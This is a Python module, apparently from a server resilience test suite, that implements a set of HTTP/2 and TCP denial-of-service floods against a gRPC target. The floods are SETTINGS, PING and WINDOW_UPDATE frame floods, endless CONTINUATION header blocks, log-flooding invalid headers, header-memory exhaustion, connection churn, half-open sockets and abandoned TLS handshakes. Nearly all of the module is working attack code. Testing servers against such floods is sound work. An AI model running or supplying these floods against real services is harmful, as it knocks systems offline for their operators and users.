"""Floods of what HTTP/2 and TCP let a stranger do before a call begins: the brothers of rapid reset. None has a token.

Trap: the server stops reading a connection that makes it owe answers, so a flood that stands still has been met.
"""

from __future__ import annotations

import asyncio
import socket
import struct
from contextlib import suppress
from typing import Final

from .http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    frame,
    header_block,
)
from .target import EMBED_STREAM, HEALTH_WATCH, Target, again

_PRIORITY, _CONTINUATION = 2, 9
_PIECE: Final = 64 * 1024
_CLIENT_HELLO: Final = bytes.fromhex("16030100c8010000c40303")
"""The head of a TLS ClientHello of 200 bytes, whose rest never comes."""


async def settings(target: Target) -> None:
    """Empty SETTINGS, each of which must be acknowledged.

    Aims at: answers that the server owes for a frame of nine bytes.
    """
    await _repeat(target, frame(SETTINGS, 0, 0))


async def pings(target: Target) -> None:
    """PINGs, each of which must be answered.

    Aims at: the same.
    """
    await _repeat(target, frame(PING, 0, 0, bytes(8)))


async def window_updates(target: Target) -> None:
    """Grants of one byte for the connection.

    Aims at: frames that cost their sender nothing, and change something in the server each time.
    """
    await _repeat(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


async def priorities(target: Target) -> None:
    """Frames that mean nothing to the server, which must skip them.

    Aims at: the time that skipping takes, on the threads that serve all connections.
    """
    await _repeat(target, frame(_PRIORITY, 0, 1, bytes(5)))


async def empty_data(target: Target) -> None:
    """DATA of no bytes on an open stream, which no window limits.

    Aims at: a stream that is busy for ever without using up its window.
    """
    begin = frame(HEADERS, END_HEADERS, 1, header_block(EMBED_STREAM))
    await _repeat(target, frame(DATA, 0, 1), begin=begin)


async def empty_continuations(target: Target) -> None:
    """A block of headers that never ends, in pieces of nothing.

    Aims at: a call that is never begun, and so never refused.
    """
    begin = frame(HEADERS, 0, 1, header_block(EMBED_STREAM))
    await _repeat(target, frame(_CONTINUATION, 0, 1), begin=begin)


async def endless_headers(target: Target) -> None:
    """A block of headers that never ends, of a client that does not acknowledge the server's settings.

    Aims at: the limit on headers, which counts for gRPC only once the client has acknowledged it; until then a call may
    bring 16 MiB of them, which are made Python objects on the event loop.
    """
    piece = frame(_CONTINUATION, 0, 1, b"\x10\x01x\x01y") * (_PIECE // 14)
    begin = frame(HEADERS, 0, 1, header_block(EMBED_STREAM))

    async def attempt() -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            writer.write(PREFACE + frame(SETTINGS, 0, 0) + begin)
            while not reader.at_eof():
                writer.write(piece)
                await writer.drain()
                target.became["pieces"] += 1
                await asyncio.sleep(0)
        finally:
            writer.transport.abort()

    await again(target, attempt)


async def headers_no_text(target: Target, *, at_once: int = 50) -> None:
    """Calls whose headers are no UTF-8.

    Aims at: the log, in which gRPC writes each of them with a traceback.
    """
    block = header_block(EMBED_STREAM) + b"\x10\x01x\x7f\x01" + b"\xbe" * 128
    reset = struct.pack(">I", CANCEL)

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:
            number = 1
            while True:
                last = number + 2 * at_once
                calls = [
                    frame(HEADERS, END_HEADERS, one, block) + frame(RST_STREAM, 0, one, reset)
                    for one in range(number, last, 2)
                ]
                await connection.raw(b"".join(calls))
                target.became["calls"] += at_once
                number = last
                await asyncio.sleep(0)

    await again(target, attempt)


async def large_headers(target: Target, *, calls: int = 2000) -> None:
    """Connections with as many open calls as they may have, each with 7 kB of headers.

    Aims at: what is held for a call before its method runs, in the name of nobody.
    """
    extra = {f"x-{index}": "v" * 100 for index in range(60)}

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:
            for _ in range(calls):
                await connection.call(HEALTH_WATCH, extra)
                target.became["calls"] += 1

    await again(target, attempt)


async def churn(target: Target) -> None:
    """Connections that are opened and closed, thousands a second.

    Aims at: what the server does for a connection before it knows anything of it.
    """
    await _connections(target, PREFACE + frame(SETTINGS, 0, 0), keep=0)


async def half_open(target: Target, *, keep: int = 4000) -> None:
    """Connections that say nothing.

    Aims at: descriptors and memory of connections, of which no call tells anything.
    """
    await _connections(target, b"", keep=keep)


async def half_handshakes(target: Target, *, keep: int = 4000) -> None:
    """TLS handshakes that are begun and left; without TLS, connections that speak something else.

    Aims at: connections that wait for a handshake's end.
    """
    await _connections(target, _CLIENT_HELLO, keep=keep)


async def _repeat(target: Target, unit: bytes, *, begin: bytes = b"") -> None:
    """One frame again and again on one connection, and on another when it is thrown out."""
    many = _PIECE // len(unit)
    piece = unit * many

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:
            await connection.raw(begin)
            while True:
                await connection.raw(piece)
                target.became["frames"] += many
                await asyncio.sleep(0)

    await again(target, attempt)


async def _connections(target: Target, words: bytes, *, keep: int) -> None:
    """Connections one after the other, of which `keep` stay open at a time."""
    held: list[socket.socket] = []

    async def attempt() -> None:
        loop = asyncio.get_running_loop()
        while True:
            one = socket.socket()
            one.setblocking(False)
            held.append(one)
            await loop.sock_connect(one, (target.host, target.port))
            with suppress(BlockingIOError):
                one.send(words)
            target.became["connections"] += 1
            while len(held) > keep:
                held.pop(0).close()

    try:
        await again(target, attempt)
    finally:
        for one in held:
            one.close()
